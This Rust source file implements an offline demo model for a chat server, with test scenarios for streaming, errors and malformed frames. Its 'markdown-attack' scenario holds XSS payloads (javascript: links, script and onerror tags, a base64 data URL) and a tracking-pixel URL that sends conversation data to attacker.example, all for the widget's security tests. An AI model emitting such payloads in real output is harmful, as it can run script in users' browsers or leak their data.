//! The offline demo model: OpenAI-compatible, deterministic, no network.
//!
//! Its default answer is a markdown report of what it received (messages, parameters,
//! images with their size and estimated tokens). A last user message `/demo NAME` picks a
//! scenario instead; see the crate README for the list.

use std::fmt::Write as _;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use axum::body::{Body, Bytes};
use axum::extract::State;
use axum::http::{header, HeaderValue, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::Json;
use confab_core::protocol::{ChatRequest, Role};
use serde_json::{json, Value};

use crate::error::{bad_request, openai_error};
use crate::{images, AppState};

pub const DEMO_MODEL: &str = "confab-demo";

/// The scenarios, as typed after `/demo`.
pub const SCENARIOS: &[(&str, &str)] = &[
    ("long", "about 50 KB of markdown, for streaming performance"),
    (
        "bench",
        "`/demo bench 10 paced`: N KB of that markdown in 4-byte deltas, 5 ms apart (`paced`) or at once",
    ),
    (
        "math",
        "inline and display formulas, and one broken formula",
    ),
    ("code", "code blocks in several languages"),
    ("slow", "one second between chunks"),
    (
        "error",
        "some content, then an error event mid-stream (HTTP 200)",
    ),
    (
        "cut",
        "some content, then the connection drops (no finish_reason, no [DONE])",
    ),
    ("429", "HTTP 429 with Retry-After: 2, every time"),
    (
        "reasoning",
        "reasoning_content chunks first, then the answer",
    ),
    (
        "length",
        "an answer cut at the token limit (finish_reason length), to show Continue",
    ),
    (
        "markdown-attack",
        "hostile links, images and raw HTML, for the widget's security tests",
    ),
    (
        "echo",
        "the body as the server's rules leave it (what a proxy forwards), in a json block",
    ),
    (
        "malformed",
        "odd but survivable frames: a comment, `choices: []`, invalid JSON, no delta",
    ),
];

/// How the answer ends.
#[derive(Debug, Clone, PartialEq)]
enum Ending {
    Stop,
    /// An `{"error":…}` event after the content (or a 500 when not streaming).
    Error(String),
    /// The connection drops after the content.
    Cut,
}

struct Answer {
    reasoning: Option<String>,
    content: String,
    ending: Ending,
    /// Pause between chunks; `None`: `--demo-delay-ms`.
    delay: Option<Duration>,
    words_per_chunk: usize,
    /// Split content into pieces of this many bytes instead of words (`/demo long tiny`,
    /// the streaming benchmark's many small deltas).
    bytes_per_chunk: Option<usize>,
    /// `finish_reason` of an answer that ends normally (`length` for `/demo length`).
    finish_reason: &'static str,
    /// Insert odd frames a client must survive (`/demo malformed`).
    malformed: bool,
}

impl Answer {
    fn text(content: String) -> Self {
        Answer {
            reasoning: None,
            content,
            ending: Ending::Stop,
            delay: None,
            words_per_chunk: 3,
            bytes_per_chunk: None,
            finish_reason: "stop",
            malformed: false,
        }
    }
}

/// Whether `GET /v1/demo/last-request` exists: demo mode on a loopback listener. A public
/// demo server has many visitors, and a client without an `Origin` (curl) would read the
/// last one's prompt.
fn keeps_last_request(st: &AppState) -> bool {
    st.config().is_demo() && st.config().listen.ip().is_loopback()
}

pub async fn last_request(State(st): State<AppState>) -> Response {
    if !keeps_last_request(&st) {
        return openai_error(
            StatusCode::NOT_FOUND,
            "/v1/demo/last-request exists only in demo mode (no --upstream) on a loopback \
             --listen",
            "invalid_request_error",
            Some("unknown_url"),
        );
    }
    let last = st
        .inner
        .last_request
        .lock()
        .unwrap_or_else(|e| e.into_inner())
        .clone();
    let mut res = match last {
        None => openai_error(
            StatusCode::NOT_FOUND,
            "the demo model has received no request yet",
            "invalid_request_error",
            Some("no_request_yet"),
        ),
        // Checked without building a tree: the body may be 25 MB of `[0,0,…]`.
        Some(body) => match serde_json::from_slice::<serde::de::IgnoredAny>(&body) {
            Ok(_) => (
                [(
                    header::CONTENT_TYPE,
                    HeaderValue::from_static("application/json"),
                )],
                body,
            )
                .into_response(),
            Err(_) => Json(json!({"invalid_body": String::from_utf8_lossy(&body)})).into_response(),
        },
    };
    res.headers_mut()
        .insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
    res
}

pub fn models(st: &AppState) -> Response {
    let c = st.config();
    let mut ids: Vec<String> = Vec::new();
    if let Some(m) = &c.model {
        ids.push(m.clone());
    } else if !c.allowed_models.is_empty() {
        ids.extend(c.allowed_models.iter().cloned());
    } else {
        ids.push(DEMO_MODEL.into());
    }
    Json(json!({
        "object": "list",
        "data": ids.iter().map(|id| json!({"id": id, "object": "model", "created": 0, "owned_by": "confab"})).collect::<Vec<_>>(),
    }))
    .into_response()
}

pub async fn chat(st: AppState, body: Bytes) -> Response {
    if keeps_last_request(&st) {
        *st.inner
            .last_request
            .lock()
            .unwrap_or_else(|e| e.into_inner()) = Some(body.clone());
    }

    // The same rules as the proxy: the model sees exactly what an upstream would.
    let prepared = match crate::policy::prepare_body(&st, body.clone()).await {
        Ok(p) => p,
        Err(res) => return res,
    };
    let req: ChatRequest = match serde_json::from_slice(&prepared.json) {
        Ok(r) => r,
        Err(e) => {
            return bad_request(
                format!("request body is not a chat completion request: {e}"),
                "invalid_request",
            )
        }
    };
    if req.messages.is_empty() {
        return bad_request("`messages` must not be empty", "empty_messages");
    }

    let command = req
        .messages
        .iter()
        .rev()
        .find(|m| m.role == Role::User)
        .map(|m| m.content.joined_text())
        .unwrap_or_default();
    let mut command = command.trim();
    // `/demo X once` misbehaves only the first time this conversation is seen, so a
    // demo (or test) of Retry gets a good answer the second time.
    if let Some(scenario) = command.strip_suffix(" once") {
        let conversation = serde_json::to_vec(&req.messages).unwrap_or_default();
        if st.first_time(fnv1a(&conversation)) {
            command = scenario.trim_end();
        } else {
            command = "";
        }
    }

    if command == "/demo 429" {
        let mut res = openai_error(
            StatusCode::TOO_MANY_REQUESTS,
            "Rate limit reached for the demo model (you sent `/demo 429`). Please try again in 2s.",
            "rate_limit_error",
            Some("rate_limit_exceeded"),
        );
        res.headers_mut()
            .insert(header::RETRY_AFTER, HeaderValue::from_static("2"));
        return res;
    }

    let answer = match command.strip_prefix("/demo") {
        Some(rest) if rest.is_empty() || rest.starts_with(char::is_whitespace) => {
            scenario(rest.trim(), &req, &prepared.json)
        }
        _ => Answer::text(report(&req)),
    };

    let model = if req.model.is_empty() {
        DEMO_MODEL.to_string()
    } else {
        req.model.clone()
    };
    let id = format!("chatcmpl-demo-{:016x}", fnv1a(&body));
    let usage = usage_of(&req, &answer);
    let delay = answer.delay.unwrap_or(st.config().demo_delay);

    if req.stream == Some(true) {
        let include_usage = req.stream_options.is_some_and(|o| o.include_usage);
        stream_response(id, model, answer, usage, include_usage, delay)
    } else {
        complete_response(id, model, answer, usage)
    }
}

fn complete_response(id: String, model: String, answer: Answer, usage: Value) -> Response {
    match answer.ending {
        Ending::Error(msg) => {
            openai_error(StatusCode::INTERNAL_SERVER_ERROR, msg, "server_error", None)
        }
        Ending::Cut => {
            // Half a JSON body, then the connection drops.
            let full = json!({"id": id, "object": "chat.completion", "model": model,
                "choices": [{"index": 0, "message": {"role": "assistant", "content": answer.content}}]})
            .to_string();
            let half = Bytes::from(full[..full.len() / 2].to_string());
            let stream = futures_util::stream::iter(vec![
                Ok(half),
                Err(std::io::Error::other("demo: connection cut on purpose")),
            ]);
            (
                [(
                    header::CONTENT_TYPE,
                    HeaderValue::from_static("application/json"),
                )],
                Body::from_stream(stream),
            )
                .into_response()
        }
        Ending::Stop => {
            let finish_reason = answer.finish_reason;
            let mut message = json!({"role": "assistant", "content": answer.content});
            if let Some(r) = answer.reasoning {
                message["reasoning_content"] = Value::String(r);
            }
            Json(json!({
                "id": id,
                "object": "chat.completion",
                "created": now_secs(),
                "model": model,
                "system_fingerprint": "confab-demo",
                "choices": [{"index": 0, "message": message, "logprobs": null, "finish_reason": finish_reason}],
                "usage": usage,
            }))
            .into_response()
        }
    }
}

enum Step {
    Data(String),
    /// Bytes sent as they are (comments, `data:` without a space).
    Raw(String),
    Fail,
}

fn stream_response(
    id: String,
    model: String,
    answer: Answer,
    usage: Value,
    include_usage: bool,
    delay: Duration,
) -> Response {
    let created = now_secs();
    let chunk = |delta: Value, finish: Value| {
        json!({
            "id": id, "object": "chat.completion.chunk", "created": created, "model": model,
            "system_fingerprint": "confab-demo",
            "choices": [{"index": 0, "delta": delta, "logprobs": null, "finish_reason": finish}],
        })
        .to_string()
    };
    let mut steps: Vec<Step> = Vec::new();
    if answer.malformed {
        // Azure's prompt-filter chunk comes first, with no choices.
        steps.push(Step::Data(
            json!({"id": "", "object": "", "created": 0, "model": "", "choices": [],
                   "prompt_filter_results": [{"prompt_index": 0, "content_filter_results": {}}]})
            .to_string(),
        ));
        steps.push(Step::Raw(": keep-alive comment\n\n".into()));
    }
    steps.push(Step::Data(chunk(
        json!({"role": "assistant", "content": ""}),
        Value::Null,
    )));
    if answer.malformed {
        steps.push(Step::Data("{this is not json".into()));
        steps.push(Step::Raw(format!(
            "data:{}\n\n",
            json!({"id": id, "object": "chat.completion.chunk", "model": model, "choices": [{"index": 0, "finish_reason": null}]})
        )));
        steps.push(Step::Data(chunk(
            json!({"role": null, "content": null}),
            Value::Null,
        )));
    }
    if let Some(r) = &answer.reasoning {
        for piece in split_words(r, answer.words_per_chunk) {
            steps.push(Step::Data(chunk(
                json!({"reasoning_content": piece}),
                Value::Null,
            )));
        }
    }
    let pieces = match answer.bytes_per_chunk {
        Some(n) => split_bytes(&answer.content, n),
        None => split_words(&answer.content, answer.words_per_chunk),
    };
    for piece in pieces {
        steps.push(Step::Data(chunk(json!({"content": piece}), Value::Null)));
    }
    match &answer.ending {
        Ending::Stop => {
            steps.push(Step::Data(chunk(json!({}), json!(answer.finish_reason))));
            if include_usage {
                steps.push(Step::Data(
                    json!({"id": id, "object": "chat.completion.chunk", "created": created,
                        "model": model, "system_fingerprint": "confab-demo",
                        "choices": [], "usage": usage})
                    .to_string(),
                ));
            }
            steps.push(Step::Data("[DONE]".into()));
        }
        Ending::Error(msg) => {
            steps.push(Step::Data(
                json!({"error": {"message": msg, "type": "server_error", "param": null, "code": null}})
                    .to_string(),
            ));
        }
        Ending::Cut => steps.push(Step::Fail),
    }

    let stream = futures_util::stream::unfold(
        (steps.into_iter(), true),
        move |(mut steps, first)| async move {
            let step = steps.next()?;
            if !first {
                tokio::time::sleep(delay).await;
            }
            let item = match step {
                Step::Data(data) => Ok(Bytes::from(format!("data: {data}\n\n"))),
                Step::Raw(raw) => Ok(Bytes::from(raw)),
                Step::Fail => Err(std::io::Error::other("demo: connection cut on purpose")),
            };
            Some((item, (steps, false)))
        },
    );
    sse_response(Body::from_stream(stream))
}

pub fn sse_response(body: Body) -> Response {
    let mut res = body.into_response();
    let h = res.headers_mut();
    h.insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("text/event-stream; charset=utf-8"),
    );
    h.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-cache"));
    h.insert("x-accel-buffering", HeaderValue::from_static("no"));
    res
}

/// Splits `text` into pieces of `n` words; the pieces concatenate back to `text`.
pub fn split_words(text: &str, n: usize) -> Vec<&str> {
    let n = n.max(1);
    let mut pieces = Vec::new();
    let mut start = 0;
    let mut words = 0;
    let mut prev_space = true;
    for (i, c) in text.char_indices() {
        let space = c.is_whitespace();
        if !space && prev_space {
            if words == n {
                pieces.push(&text[start..i]);
                start = i;
                words = 0;
            }
            words += 1;
        }
        prev_space = space;
    }
    if start < text.len() {
        pieces.push(&text[start..]);
    }
    pieces
}

/// Pieces of about `n` bytes, cut on character boundaries.
pub fn split_bytes(text: &str, n: usize) -> Vec<&str> {
    let n = n.max(1);
    let mut pieces = Vec::new();
    let mut start = 0;
    while start < text.len() {
        let mut end = (start + n).min(text.len());
        while !text.is_char_boundary(end) {
            end += 1;
        }
        pieces.push(&text[start..end]);
        start = end;
    }
    pieces
}

fn usage_of(req: &ChatRequest, answer: &Answer) -> Value {
    let mut prompt = 0u32;
    for m in &req.messages {
        prompt += 4 + (m.content.joined_text().chars().count() as u32).div_ceil(4);
        for img in m.content.images() {
            let detail = img.detail.unwrap_or_default().as_str();
            prompt += match images::inspect_data_url(&img.url) {
                Ok(images::ImageInfo {
                    size: Some((w, h)), ..
                }) => images::estimate_tokens(w, h, detail),
                _ => 85,
            };
        }
    }
    let reasoning = answer
        .reasoning
        .as_ref()
        .map(|r| (r.chars().count() as u32).div_ceil(4))
        .unwrap_or(0);
    let completion = (answer.content.chars().count() as u32).div_ceil(4) + reasoning;
    let mut usage = json!({
        "prompt_tokens": prompt,
        "completion_tokens": completion,
        "total_tokens": prompt + completion,
    });
    if reasoning > 0 {
        usage["completion_tokens_details"] = json!({"reasoning_tokens": reasoning});
    }
    usage
}

fn now_secs() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_secs())
        .unwrap_or(0)
}

fn fnv1a(bytes: &[u8]) -> u64 {
    bytes.iter().fold(0xcbf29ce484222325u64, |h, &b| {
        (h ^ b as u64).wrapping_mul(0x100000001b3)
    })
}

/// `forwarded` is the body as the server's rules left it: what a proxy would send on.
fn scenario(name: &str, req: &ChatRequest, forwarded: &[u8]) -> Answer {
    match name {
        "long" => Answer {
            words_per_chunk: 6,
            ..Answer::text(long_markdown())
        },
        "length" => Answer {
            finish_reason: "length",
            ..Answer::text(
                "This answer stops at the token limit (you sent `/demo length`), so the \
                 widget offers to continue it. Each continuation adds"
                    .to_string(),
            )
        },
        "long tiny" => Answer {
            bytes_per_chunk: Some(4),
            delay: Some(Duration::from_millis(1)),
            ..Answer::text(long_markdown())
        },
        bench if bench.starts_with("bench ") => {
            let mut words = bench.split_whitespace().skip(1);
            let kb: usize = words
                .next()
                .and_then(|n| n.parse().ok())
                .unwrap_or(10)
                .min(50);
            let mut text = long_markdown();
            let mut cut = (kb * 1024).min(text.len());
            while !text.is_char_boundary(cut) {
                cut -= 1;
            }
            text.truncate(cut);
            Answer {
                bytes_per_chunk: Some(4),
                delay: Some(Duration::from_millis(if words.next() == Some("paced") {
                    5
                } else {
                    0
                })),
                ..Answer::text(text)
            }
        }
        "math" => Answer::text(MATH.to_string()),
        "code" => Answer::text(CODE.to_string()),
        "slow" => Answer {
            delay: Some(Duration::from_secs(1)),
            ..Answer::text(
                "This answer arrives slowly, one chunk per second, so you can watch the \
                 streaming state, try the stop button, or close the tab mid-answer."
                    .to_string(),
            )
        },
        "error" => Answer {
            ending: Ending::Error(
                "The demo model failed in the middle of its answer (you sent `/demo error`)."
                    .into(),
            ),
            ..Answer::text(
                "Here is the beginning of an answer that will not be finished, because the \
                 server reports an error in the middle of the stream"
                    .to_string(),
            )
        },
        "cut" => Answer {
            ending: Ending::Cut,
            ..Answer::text(
                "Here is the beginning of an answer whose connection drops before it ends, \
                 with no finish reason and no [DONE]"
                    .to_string(),
            )
        },
        "reasoning" => Answer {
            reasoning: Some(
                "The user asked for the reasoning scenario. I should think first, in a few \
                 short steps: one, reasoning arrives as delta.reasoning_content; two, the \
                 answer follows as delta.content; three, a client can show the first \
                 collapsed while the second streams."
                    .to_string(),
            ),
            ..Answer::text(
                "**Answer:** the reasoning above came as `reasoning_content` chunks, before \
                 this content. 2 + 2 = 4."
                    .to_string(),
            )
        },
        "markdown-attack" => Answer::text(MARKDOWN_ATTACK.to_string()),
        "malformed" => Answer {
            malformed: true,
            ..Answer::text(
                "This answer came after a chunk with no choices, a comment, a frame of \
                 invalid JSON, a chunk without a delta and one with null content. A tolerant \
                 client shows just this text."
                    .to_string(),
            )
        },
        "echo" => {
            let pretty = pretty_json(forwarded)
                .unwrap_or_else(|| String::from_utf8_lossy(forwarded).into_owned());
            let fence = fence_for(&pretty);
            Answer {
                words_per_chunk: 8,
                ..Answer::text(format!("{fence}json\n{pretty}\n{fence}\n"))
            }
        }
        other => {
            let _ = req;
            let mut s = String::new();
            if !other.is_empty() {
                let _ = writeln!(
                    s,
                    "Unknown demo scenario `{}`.\n",
                    other.replace('`', "'").chars().take(80).collect::<String>()
                );
            }
            s.push_str(
                "Send one of these as your message:\n\n| Command | What happens |\n|---|---|\n",
            );
            for (n, what) in SCENARIOS {
                let _ = writeln!(s, "| `/demo {n}` | {what} |");
            }
            Answer::text(s)
        }
    }
}

/// A code fence longer than any run of backticks in `text`.
fn fence_for(text: &str) -> String {
    let mut longest = 0;
    let mut run = 0;
    for c in text.chars() {
        if c == '`' {
            run += 1;
            longest = longest.max(run);
        } else {
            run = 0;
        }
    }
    "`".repeat((longest + 1).max(3))
}

/// Re-indents JSON text without reordering keys or touching string contents.
/// `None` when the text is not valid JSON.
pub fn pretty_json(raw: &[u8]) -> Option<String> {
    let text = std::str::from_utf8(raw).ok()?;
    serde_json::from_str::<serde::de::IgnoredAny>(text).ok()?;
    let mut out = String::with_capacity(text.len() * 2);
    let mut indent = 0usize;
    let mut in_string = false;
    let mut escaped = false;
    let mut chars = text.chars().peekable();
    let newline = |out: &mut String, indent: usize| {
        out.push('\n');
        for _ in 0..indent {
            out.push_str("  ");
        }
    };
    while let Some(c) = chars.next() {
        if in_string {
            out.push(c);
            if escaped {
                escaped = false;
            } else if c == '\\' {
                escaped = true;
            } else if c == '"' {
                in_string = false;
            }
            continue;
        }
        match c {
            '"' => {
                in_string = true;
                out.push(c);
            }
            '{' | '[' => {
                out.push(c);
                while chars.peek().is_some_and(|c| c.is_whitespace()) {
                    chars.next();
                }
                if matches!(chars.peek(), Some('}') | Some(']')) {
                    out.push(chars.next().unwrap_or(']'));
                } else {
                    indent += 1;
                    newline(&mut out, indent);
                }
            }
            '}' | ']' => {
                indent = indent.saturating_sub(1);
                newline(&mut out, indent);
                out.push(c);
            }
            ',' => {
                out.push(c);
                newline(&mut out, indent);
            }
            ':' => out.push_str(": "),
            c if c.is_whitespace() => {}
            c => out.push(c),
        }
    }
    Some(out)
}

/// Makes text safe inside a markdown table cell: one line, pipes escaped, bounded.
fn cell(text: &str, max: usize) -> String {
    let one_line: String = text
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    let mut s: String = one_line.chars().take(max).collect();
    if one_line.chars().count() > max {
        s.push('…');
    }
    // Shown verbatim: backslashes, pipes and dollars would otherwise be markdown or math.
    s.replace('\\', "\\\\")
        .replace('|', "\\|")
        .replace('$', "\\$")
}

fn code_cell(text: &str, max: usize) -> String {
    let c = cell(text, max).replace('`', "'");
    format!("`{c}`")
}

/// The default answer: what the model received, as markdown.
fn report(req: &ChatRequest) -> String {
    let mut s = String::new();
    s.push_str("## Hello from the Confab demo model\n\n");
    s.push_str(
        "This answer comes from the offline demo model built into `confab-server`: no API \
         key and no network involved. Here is what it received.\n\n",
    );

    let last_user = req
        .messages
        .iter()
        .rev()
        .find(|m| m.role == Role::User)
        .map(|m| m.content.joined_text())
        .unwrap_or_default();
    if !last_user.trim().is_empty() {
        let quoted: String = last_user.chars().take(2000).collect();
        for line in quoted.lines() {
            let _ = writeln!(s, "> {line}");
        }
        if last_user.chars().count() > 2000 {
            s.push_str("> …\n");
        }
        s.push('\n');
    }

    s.push_str("| Field | Value |\n|---|---|\n");
    let _ = writeln!(s, "| last user message | {} |", cell(&last_user, 120));
    let model = if req.model.is_empty() {
        "(none)".to_string()
    } else {
        req.model.clone()
    };
    let _ = writeln!(s, "| model | {} |", code_cell(&model, 80));
    let mut roles: Vec<(Role, usize)> = Vec::new();
    for m in &req.messages {
        match roles.iter_mut().find(|(r, _)| *r == m.role) {
            Some((_, n)) => *n += 1,
            None => roles.push((m.role, 1)),
        }
    }
    let roles_text = roles
        .iter()
        .map(|(r, n)| format!("{n} {}", r.as_str()))
        .collect::<Vec<_>>()
        .join(", ");
    let _ = writeln!(s, "| messages | {} ({roles_text}) |", req.messages.len());

    // Every parameter that was set, known or not, in the order of the body.
    let params = serde_json::to_value(req).unwrap_or(Value::Null);
    if let Value::Object(map) = params {
        let mut keys: Vec<&String> = map
            .keys()
            .filter(|k| *k != "model" && *k != "messages")
            .collect();
        keys.sort();
        for k in keys {
            let v = &map[k];
            let text = match v {
                Value::String(x) => x.clone(),
                other => other.to_string(),
            };
            let _ = writeln!(s, "| {} | {} |", cell(k, 60), code_cell(&text, 100));
        }
    }

    let mut images_md = String::new();
    let mut n = 0;
    let mut total_tokens = 0;
    for m in &req.messages {
        for img in m.content.images() {
            n += 1;
            let detail = img.detail.unwrap_or_default().as_str();
            match images::inspect_data_url(&img.url) {
                Ok(info) => {
                    let (pixels, tokens) = match info.size {
                        Some((w, h)) => {
                            let t = images::estimate_tokens(w, h, detail);
                            total_tokens += t;
                            (format!("{w} × {h}"), t.to_string())
                        }
                        None => ("unreadable".into(), "?".into()),
                    };
                    let mime_note = if info.declared_mime.is_empty() {
                        String::new()
                    } else {
                        format!(
                            " (declared `{}`)",
                            cell(&info.declared_mime, 40).replace('`', "'")
                        )
                    };
                    let _ = writeln!(
                        images_md,
                        "| {n} | {}{mime_note} | {pixels} | {} | {detail} | {tokens} |",
                        info.format,
                        human_bytes(info.bytes)
                    );
                }
                Err(why) => {
                    let _ = writeln!(
                        images_md,
                        "| {n} | {} | ? | ? | {detail} | ? |",
                        cell(&why, 80)
                    );
                }
            }
        }
    }
    let _ = writeln!(s, "| images | {n} |");
    s.push('\n');
    if n > 0 {
        s.push_str("### Images\n\n| # | Format | Pixels | Size | Detail | Est. tokens |\n|---|---|---|---|---|---|\n");
        s.push_str(&images_md);
        let _ = writeln!(
            s,
            "\nEstimated image tokens in total: **{total_tokens}** (OpenAI's rule: `low` is 85; \
             otherwise fit in 2048 × 2048, shortest side down to 768, then 170 per 512 px tile + 85).\n"
        );
    }

    s.push_str("### A little code\n\n```rust\nfn main() {\n    let greeting = \"Hello, Confab!\";\n    println!(\"{greeting}\");\n}\n```\n\n");
    s.push_str("And some math: mass–energy equivalence is $E = mc^2$, and\n\n$$\\sum_{k=1}^{n} k = \\frac{n(n+1)}{2}$$\n\n");
    s.push_str("Send `/demo` to list the scenarios (long answers, math, code, errors, cut streams, 429, reasoning, echo).\n");
    s
}

fn human_bytes(n: usize) -> String {
    if n < 1024 {
        format!("{n} B")
    } else if n < 1024 * 1024 {
        format!("{:.1} KB", n as f64 / 1024.0)
    } else {
        format!("{:.2} MB", n as f64 / (1024.0 * 1024.0))
    }
}

/// About 50 KB of varied markdown, the same every time.
fn long_markdown() -> String {
    let mut s = String::from("# A long answer\n\nThis answer is about 50 KB of markdown, streamed in small deltas, to measure how the widget keeps up.\n\n");
    let mut i = 1;
    while s.len() < 50_000 {
        let _ = write!(
            s,
            "## Section {i}\n\n\
             Paragraph {i} talks about streaming: each chunk adds a few words, finished blocks \
             are frozen, and only the open tail is parsed again. It has **bold**, *emphasis*, \
             `inline code` and a [link](https://example.com/section/{i}).\n\n\
             - point {i}.1: incremental parsing keeps the cost per chunk flat\n\
             - point {i}.2: a frozen block is rendered once\n\
             - point {i}.3: the tail block is re-parsed at most once per frame\n\n\
             | n | n² | n³ |\n|---|---|---|\n| {i} | {} | {} |\n| {} | {} | {} |\n\n\
             ```rust\nfn section_{i}(x: u64) -> u64 {{\n    x * {i} + 1\n}}\n```\n\n\
             > Quote {i}: the stream goes on, and the widget stays responsive.\n\n\
             The formula of the section is $a_{{{i}}} = {i}^2 = {}$.\n\n",
            i * i,
            i * i * i,
            i + 1,
            (i + 1) * (i + 1),
            (i + 1) * (i + 1) * (i + 1),
            i * i
        );
        i += 1;
    }
    s.push_str("That is the end of the long answer.\n");
    s
}

const MATH: &str = r#"## Math

Inline: Euler's identity $e^{i\pi} + 1 = 0$, the area of a circle $A = \pi r^2$, and with other delimiters \(a^2 + b^2 = c^2\).

Display:

$$\int_{-\infty}^{\infty} e^{-x^2}\,dx = \sqrt{\pi}$$

\[
\frac{d}{dx}\left( \frac{1}{1 + e^{-x}} \right) = \sigma(x)\,\bigl(1 - \sigma(x)\bigr)
\]

A matrix:

$$A = \begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix}, \quad \det A = -2$$

A sum and a product: $\sum_{k=0}^{n} \binom{n}{k} = 2^n$ and $\prod_{p \text{ prime}} \frac{1}{1 - p^{-s}} = \zeta(s)$.

A broken formula (a fraction missing its denominator), which should show as its source: $\frac{1}$.

Money is not math: it costs $5 and $10.
"#;

const CODE: &str = r#"## Code in several languages

Rust:

```rust
use std::collections::HashMap;

fn word_count(text: &str) -> HashMap<&str, usize> {
    let mut counts = HashMap::new();
    for word in text.split_whitespace() {
        *counts.entry(word).or_insert(0) += 1;
    }
    counts
}
```

Python:

```python
def fib(n: int) -> list[int]:
    a, b, out = 0, 1, []
    for _ in range(n):
        out.append(a)
        a, b = b, a + b
    return out
```

JavaScript:

```javascript
const res = await fetch("/v1/chat/completions", {
  method: "POST",
  headers: { "Content-Type": "application/json" },
  body: JSON.stringify({ model: "confab-demo", messages: [{ role: "user", content: "hi" }] }),
});
console.log(await res.json());
```

TypeScript:

```typescript
interface Message { role: "user" | "assistant"; content: string }
const last = (ms: Message[]): Message | undefined => ms[ms.length - 1];
```

Shell:

```bash
curl -N http://127.0.0.1:8787/v1/chat/completions \
  -H 'Content-Type: application/json' \
  -d '{"model":"confab-demo","stream":true,"messages":[{"role":"user","content":"hi"}]}'
```

SQL:

```sql
SELECT model, count(*) AS n
FROM requests
WHERE created_at > now() - interval '1 day'
GROUP BY model
ORDER BY n DESC;
```

Go:

```go
package main

import "fmt"

func main() {
	fmt.Println("hello from Go")
}
```

C:

```c
#include <stdio.h>

int main(void) {
    printf("hello from C\n");
    return 0;
}
```

JSON:

```json
{"model": "confab-demo", "stream": true, "stream_options": {"include_usage": true}}
```

HTML (as code, never rendered):

```html
<button onclick="alert('hi')">Click</button>
```

And a block with no language:

```
plain text, no highlighting
```
"#;

const MARKDOWN_ATTACK: &str = r#"## Markdown attack

Each item below must render harmlessly: no script runs, no remote request is made.

1. [javascript link](javascript:alert(document.domain))
2. [upper-case scheme](JAVASCRIPT:alert(1))
3. [tab in scheme](java	script:alert(1))
4. [entity-encoded](&#106;avascript:alert(1))
5. [spaced](  javascript:alert(1))
6. [vbscript](vbscript:msgbox(1))
7. [data html](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
8. <javascript:alert(1)>
9. [reference link][evil]
10. [fine link](https://example.com/ok) and <mailto:someone@example.com>

[evil]: javascript:alert('ref')

Remote images (must not load until clicked):

![tracking pixel](https://attacker.example/collect?q=secret-from-the-conversation)
![image with title](https://attacker.example/i.png "title")
![javascript image](javascript:alert(1))

Raw HTML (must show as text):

<script>alert('script tag')</script>

<img src="x" onerror="alert('img onerror')">

<iframe src="https://attacker.example/"></iframe>

<a href="javascript:alert(1)">html link</a> and inline <b onmouseover="alert(1)">bold</b>.

<style>body { display: none }</style>

<form action="https://attacker.example/"><input name="q"></form>

Deep nesting:

> > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > > nested quote

Done.
"#;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_cells_show_the_text_verbatim_not_as_markdown_or_math() {
        let c = cell("a|b $\\frac{1}{2}$\nnext", 100);
        assert_eq!(c, "a\\|b \\$\\\\frac{1}{2}\\$ next");
        use confab_core::markdown::{parse, Block, Inline};
        let doc = parse(&format!("| x |\n|---|\n| {c} |\n"));
        let Some(Block::Table { rows, .. }) = doc.first() else {
            panic!("a table: {doc:?}")
        };
        assert_eq!(
            Inline::plain_text(&rows[0][0]),
            "a|b $\\frac{1}{2}$ next",
            "no math, nothing eaten"
        );
    }

    #[test]
    fn words_split_and_rejoin() {
        let t = "one two  three\nfour five six seven";
        let parts = split_words(t, 3);
        assert_eq!(parts.concat(), t);
        assert_eq!(parts, vec!["one two  three\n", "four five six ", "seven"]);
        assert_eq!(split_words("", 3), Vec::<&str>::new());
        assert_eq!(split_words("  lead", 3).concat(), "  lead");
    }

    #[test]
    fn byte_pieces_rejoin_and_never_split_a_character() {
        let t = "abcdefé中文x";
        let parts = split_bytes(t, 4);
        assert_eq!(parts.concat(), t);
        assert_eq!(parts[0], "abcd");
        assert!(parts.iter().all(|p| p.len() <= 6 && !p.is_empty()));
        assert_eq!(split_bytes("", 4), Vec::<&str>::new());
    }

    #[test]
    fn pretty_json_keeps_key_order_and_strings() {
        let raw = br#"{"z":1,"a":[1,2,{"k":"a, b: {c}"}],"e":{},"f":[],"s":"q\"x"}"#;
        let p = pretty_json(raw).unwrap();
        assert!(p.find("\"z\"").unwrap() < p.find("\"a\"").unwrap());
        assert!(p.contains("\"a, b: {c}\""));
        assert!(p.contains("\"e\": {}"));
        assert_eq!(
            serde_json::from_str::<Value>(&p).unwrap(),
            serde_json::from_slice::<Value>(raw).unwrap()
        );
        assert!(pretty_json(b"{nope").is_none());
    }

    #[test]
    fn long_answer_is_about_50_kb() {
        let l = long_markdown();
        assert!((50_000..60_000).contains(&l.len()), "{}", l.len());
    }

    #[test]
    fn fence_outgrows_backticks() {
        assert_eq!(fence_for("no ticks"), "```");
        assert_eq!(fence_for("a ```` b"), "`````");
    }
}
